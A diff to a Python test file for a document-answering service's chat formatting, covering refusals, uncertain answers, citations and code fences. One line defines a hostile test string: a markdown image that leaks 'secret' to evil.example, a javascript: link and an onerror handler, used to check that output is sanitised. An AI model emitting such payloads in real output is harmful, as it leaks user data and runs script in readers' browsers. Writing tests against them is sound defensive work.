@@ -5,6 +5,7 @@ from __future__ import annotations
 import json
 import logging
 import re
+from dataclasses import replace
 from pathlib import Path
 from typing import Any
 
@@ -18,14 +19,17 @@ from rag.service.documents import Names, document_id
 from rag.service.observing import JsonLines, Metrics, PlainLines
 from rag.service.shapes import answer_json, chat_text
 from rag.service.uploads import Uploads
-from rag.types import Answer, Citation, Passage, given_passage
+from rag.types import Answer, Citation, CopiedText, Outcome, Passage, given_passage
 
 NAMES = Names(Uploads(Path("/nowhere")), "world")
 HOSTILE = "See ![pixel](http://evil.example/?q=secret) and [here](javascript:alert(1)) <img src=x onerror=y>."
 
 
-def answer(text: str, *citations: Citation, passages: tuple[Passage, ...] = ()) -> Answer:
-    return Answer("Who?", text, "answer" if text else "none", 0.75, citations, passages, "copying", "world", 3)
+def answer(
+    text: str, *citations: Citation, passages: tuple[Passage, ...] = (), outcome: Outcome | None = None, **more: Any
+) -> Answer:
+    told: Outcome = outcome or ("answer" if text else "none")
+    return Answer("Who?", text, told, 0.75, citations, passages, "copying", "world", 3, **more)
 
 
 def citation(number: int, quote: str, *claims: tuple[int, int], **more: Any) -> Citation:
@@ -45,11 +49,49 @@ def test_footnotes_stand_behind_what_they_bear_out() -> None:
 
 
 def test_a_refusal_says_so_and_shows_the_nearest() -> None:
-    nearest = given_passage("Tea   is\ngreen. " + "x" * 400, source="/docs/tea.md")
+    nearest = given_passage("Tea   is\ngreen. " + "x" * 400, source="/docs/tea.md")  # no word of it is asked for
     said = chat_text(answer("", passages=(nearest,)), NAMES)
-    assert said.startswith("These documents do not say.\n\nThe nearest:\n\n[1] tea.md: Tea is green. xxx")
-    assert said.endswith("…")
-    assert chat_text(answer(""), NAMES) == "These documents do not say."
+    assert said == "Nothing in these documents bears on this.\n\nThe nearest:\n\n[1] tea.md: Tea is green."
+    assert chat_text(answer(""), NAMES) == "Nothing in these documents bears on this."
+    assert "Did you mean: Whose?" in chat_text(answer("", meant="Whose?"), NAMES)
+
+
+def test_the_closest_evidence_says_what_it_is() -> None:
+    made = answer("Tea is green.", citation(1, "Tea is green.", (0, 13)), outcome="unsure", read_as="Who is green?")
+    assert chat_text(made, NAMES).split("\n\n") == [
+        "Not sure. The closest is: Tea is green.[1]",
+        "Read as: Who is green?",
+        "[1] A: “Tea is green.”",
+    ]
+
+
+def test_yes_of_which_nobody_is_sure_is_not_said() -> None:
+    made = answer("Yes. Tea is green.", citation(1, "Tea is green.", (5, 18)), outcome="unsure", form="yes-no")
+    assert chat_text(made, NAMES).split("\n\n") == ["Not sure. The closest is:", "[1] A: “Tea is green.”"]
+
+
+def test_a_quotation_beside_the_answer_has_no_number_in_it() -> None:
+    made = answer("Tea is green.", citation(1, "Tea is green.", (0, 13)), citation(2, "Salt is white."))
+    assert chat_text(made, NAMES).split("\n\n") == [
+        "Tea is green.[1]",
+        "[1] A: “Tea is green.”",
+        "[2] A: “Salt is white.”",
+    ]
+
+
+@pytest.mark.parametrize("code", ["x = [1](2)\n  y = 3", "```\n![a](b)", "~~~\n`````"])
+def test_code_stands_between_fences_that_nothing_in_it_ends(code: str) -> None:
+    text = f"Write:\n\n{code}\n\nThen go."
+    start = text.index(code)
+    read = replace(given_passage(text, source="/docs/a.md"), sections=(Section(start, start + len(code), "code"),))
+    whole = citation(1, text, (0, len(text)), end=len(text))
+    made = answer(text, whole, passages=(read,), copied=(CopiedText(0, len(text), 1, 0, len(text)),))
+    assert made.code == ((start, start + len(code)),)
+    said = chat_text(made, NAMES)
+    (fence,) = re.findall(r"(?m)^(`{3,})\n" + re.escape(code) + r"\n\1$", said)
+    assert fence not in code
+    assert said.startswith("Write:\n\n```")
+    assert "Then go.[1]" in said
 
 
 def images_and_links(markdown: str) -> list[str]:
@@ -75,8 +117,6 @@ def test_no_text_makes_an_image_a_link_or_html(text: str) -> None:
 def test_the_data_of_an_answer_is_what_the_schema_says() -> None:
     text = "# Rain\n\nRain fell.\n\n## Snow\n\nSnow fell."
     sections = (Section(0, 6, "heading", 1), Section(8, 18), Section(20, 27, "heading", 2), Section(29, 39))
-    from dataclasses import replace
-
     read = replace(given_passage(text, source="/docs/a.md"), context="Weather > Rain", sections=sections)
     snow = citation(1, "Snow fell.", (0, 10), start=29, end=39)
     rain = citation(2, "Rain fell.", (0, 10), start=8, end=18)
